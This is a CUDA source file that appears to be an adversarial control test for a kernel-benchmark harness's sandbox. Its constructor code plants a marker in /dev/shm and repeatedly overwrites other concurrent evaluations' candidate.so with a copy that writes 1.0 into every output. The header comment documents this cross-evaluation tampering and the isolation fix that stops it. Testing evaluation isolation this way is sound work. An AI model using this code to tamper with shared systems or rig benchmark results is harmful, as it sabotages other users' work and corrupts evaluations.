/*
Adversarial control: shm_tamper   (issue 34: /dev/shm, shared by every evaluation)

Attack. Every evaluation's scratch folder is /dev/shm/ptxbench-eval.XXXXXX (common/files.cc
ScratchDir; /tmp only where /dev/shm is not writable), and each confined child gets
<scratch>/<name>.d/ (name: candidate, memcheck, timing, profile), owned by the sandbox user,
mode 0700, holding its own copy of the candidate, candidate.so, copied in just before the
child starts. Landlock lets every candidate child write beneath /dev/shm (the CUDA driver needs
it), and every evaluation's children run as the same uid (65534), so one candidate's child can
replace another evaluation's candidate.so between the copy and the dlopen. The scratch folder
itself is mode 0711 (not listable), but /dev/shm is, and the child folders' names are known.
So, in every child that loads it, a constructor:
  - writes a marker file, /dev/shm/ptxbench-adv-shm-marker-<pid>, for a later evaluation to
    find (fs_escape_all only noted that /dev/shm is writable);
  - starts a thread that, every 20 ms for as long as the process lives, lists /dev/shm (and
    /tmp) for ptxbench-eval.* folders other than its own evaluation's and, in each, replaces
    <folder>/{candidate,memcheck,timing,profile}.d/candidate.so (nothing else: restraint) with
    a copy of this object whose marker "ADV-SHM-MODE:HOME" is patched to "ADV-SHM-MODE:EVIL"
    (written as a new file in the same folder, then renamed over the old one, as cache_poison
    does). A planted copy's run() writes 1.0 into every output, and a planted copy neither
    scans nor plants.
Its own GEMM is honest (the CUDA-core GEMM of channel_relay.cu), so its own verdict is PASSED.
The harm is to whichever evaluation runs at the same time: the test runs an honest kernel
concurrently ("concurrent_with") and another right after ("then_honest").

Old harness: not run against it. By the code at de49d52 (shared /dev/shm, one uid for every
evaluation's children, Landlock allowing /dev/shm): the concurrent honest evaluation's next
child to start loads the planted copy: INCORRECT (its trials) or RULE_VIOLATION call_history /
observed_output_differs (a later child), depending on the race; this control PASSED.
Now: each child has a private /dev/shm and each evaluation a distinct uid: no other
evaluation's folder is visible, and writing into one fails. This control: PASSED (no tag);
the concurrent and the following honest kernels: PASSED.
*/
#include <cuda_bf16.h>
#include <cuda_runtime.h>

#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <ctime>
#include <set>
#include <string>

namespace {

// Patched in the planted copies.
__attribute__((used)) const volatile char kMode[] = "ADV-SHM-MODE:HOME";

bool planted() { return kMode[13] == 'E'; }

__global__ void write_ones(__nv_bfloat16* C, size_t n) {
  for (size_t i = blockIdx.x * (size_t)blockDim.x + threadIdx.x; i < n;
       i += (size_t)gridDim.x * blockDim.x)
    C[i] = __float2bfloat16_rn(1.0f);
}

// ---- the honest GEMM (channel_relay.cu) -------------------------------------------------------

__global__ void __launch_bounds__(256)
    cc_gemm(const __nv_bfloat16* __restrict__ A, const __nv_bfloat16* __restrict__ B,
            __nv_bfloat16* __restrict__ C, int M, int N, int K) {
  __shared__ float As[16][65], Bs[16][65];  // [k][row], padded
  const int tx = threadIdx.x & 15, ty = threadIdx.x >> 4;
  const int m0 = blockIdx.y * 64, n0 = blockIdx.x * 64;
  float acc[4][4] = {};
  for (int k0 = 0; k0 < K; k0 += 16) {
    for (int i = threadIdx.x; i < 64 * 16; i += 256) {
      const int r = i >> 4, k = i & 15, gk = k0 + k;
      As[k][r] = (m0 + r < M && gk < K) ? __bfloat162float(A[(size_t)(m0 + r) * K + gk]) : 0.f;
      Bs[k][r] = (n0 + r < N && gk < K) ? __bfloat162float(B[(size_t)(n0 + r) * K + gk]) : 0.f;
    }
    __syncthreads();
#pragma unroll
    for (int k = 0; k < 16; ++k)
#pragma unroll
      for (int i = 0; i < 4; ++i)
#pragma unroll
        for (int j = 0; j < 4; ++j)
          acc[i][j] = fmaf(As[k][ty + 16 * i], Bs[k][tx + 16 * j], acc[i][j]);
    __syncthreads();
  }
  for (int i = 0; i < 4; ++i) {
    const int m = m0 + ty + 16 * i;
    if (m >= M) continue;
    for (int j = 0; j < 4; ++j) {
      const int n = n0 + tx + 16 * j;
      if (n < N) C[(size_t)m * N + n] = __float2bfloat16_rn(acc[i][j]);
    }
  }
}

// ---- files ------------------------------------------------------------------------------------

std::string slurp(const std::string& path, size_t max = size_t(1) << 28) {
  std::string s;
  int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) return s;
  char buf[65536];
  ssize_t n;
  while (s.size() < max && (n = read(fd, buf, sizeof buf)) > 0) s.append(buf, (size_t)n);
  close(fd);
  return s;
}

// The value of "key" (a string) in the child's spec, the argument after "__child".
std::string spec_string(const char* key) {
  const std::string c = slurp("/proc/self/cmdline");
  std::string spec;
  for (size_t p = 0; p < c.size();) {
    size_t e = c.find('\0', p);
    if (e == std::string::npos) e = c.size();
    if (c.compare(p, e - p, "__child") == 0 && e + 1 < c.size()) spec = slurp(c.c_str() + e + 1);
    p = e + 1;
  }
  const std::string k = std::string("\"") + key + "\"";
  size_t p = spec.find(k);
  if (p == std::string::npos || (p = spec.find(':', p + k.size())) == std::string::npos) return "";
  if ((p = spec.find('"', p + 1)) == std::string::npos) return "";
  return spec.substr(p + 1, spec.find('"', p + 1) - p - 1);
}

std::string dirname_of(const std::string& path) {
  const size_t slash = path.rfind('/');
  return slash == std::string::npos ? std::string() : path.substr(0, slash);
}

// Writes `bytes` to a new file next to `path`, then renames it over `path`.
bool replace_file(const std::string& path, const std::string& bytes) {
  const std::string tmp = path + ".adv." + std::to_string(getpid());
  int fd = open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (fd < 0) return false;
  bool ok = write(fd, bytes.data(), bytes.size()) == (ssize_t)bytes.size();
  close(fd);
  if (ok && rename(tmp.c_str(), path.c_str()) == 0) return true;
  unlink(tmp.c_str());
  return false;
}

// ---- the planter ------------------------------------------------------------------------------

// Pointers, set by the constructor below: a std::string global could be constructed (emptied)
// after it ran, the order of a file's initializers and constructor functions being open.
const std::string* g_evil = nullptr;      // this object with the marker patched
const std::string* g_own_eval = nullptr;  // our own evaluation's scratch folder: spared

void* plant_loop(void*) {
  std::set<std::pair<dev_t, ino_t>> done;  // files we planted (their inode after the rename)
  const char* roots[] = {"/dev/shm", "/tmp"};
  const char* children[] = {"candidate", "memcheck", "timing", "profile"};
  for (;;) {
    for (const char* root : roots) {
      DIR* d = opendir(root);
      if (!d) continue;
      while (dirent* e = readdir(d)) {
        if (strncmp(e->d_name, "ptxbench-eval.", 14) != 0) continue;
        const std::string eval = std::string(root) + "/" + e->d_name;
        if (eval == *g_own_eval) continue;
        for (const char* child : children) {
          const std::string so = eval + "/" + child + ".d/candidate.so";
          struct stat st;
          if (stat(so.c_str(), &st) != 0 || done.count({st.st_dev, st.st_ino})) continue;
          if (!replace_file(so, *g_evil) || stat(so.c_str(), &st) != 0) continue;
          done.insert({st.st_dev, st.st_ino});
          fprintf(stderr, "shm_tamper: planted in %s\n", so.c_str());
        }
      }
      closedir(d);
    }
    const timespec pause = {0, 20 * 1000 * 1000};
    nanosleep(&pause, nullptr);
  }
  return nullptr;
}

__attribute__((constructor)) void start_planting() {
  if (planted()) return;  // a planted copy does not spread
  const std::string own_so = spec_string("shared_object");
  const std::string own_eval = dirname_of(dirname_of(own_so));  // <scratch>/<child>.d/x.so
  // The marker: a file any later evaluation could find where /dev/shm is shared.
  const std::string marker = "/dev/shm/ptxbench-adv-shm-marker-" + std::to_string(getpid());
  if (FILE* f = fopen(marker.c_str(), "w")) {
    fprintf(f, "ADV-SHM-MARKER left by an evaluation in %s\n", own_eval.c_str());
    fclose(f);
  }
  std::string evil = slurp(own_so), home;
  for (size_t i = 0; i + 1 < sizeof kMode; ++i) home += kMode[i];  // no second copy of it
  const size_t mark = evil.find(home);
  if (own_eval.empty() || mark == std::string::npos) return;
  evil.replace(mark + 13, 4, "EVIL");
  g_evil = new std::string(std::move(evil));
  g_own_eval = new std::string(own_eval);
  pthread_t t;
  if (pthread_create(&t, nullptr, plant_loop, nullptr) == 0) pthread_detach(t);
}

}  // namespace

extern "C" int run(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N,
                   int K, cudaStream_t stream) {
  if (M <= 0 || N <= 0 || K <= 0) return 1;
  if (planted()) {  // somebody else's evaluation: every output 1.0
    write_ones<<<264, 256, 0, stream>>>(C, (size_t)M * N);
    return cudaGetLastError() == cudaSuccess ? 0 : 2;
  }
  const dim3 grid((unsigned)((N + 63) / 64), (unsigned)((M + 63) / 64));
  if (grid.y > 65535u) return 3;
  cc_gemm<<<grid, 256, 0, stream>>>(A, B, C, M, N, K);
  return cudaGetLastError() == cudaSuccess ? 0 : 4;
}
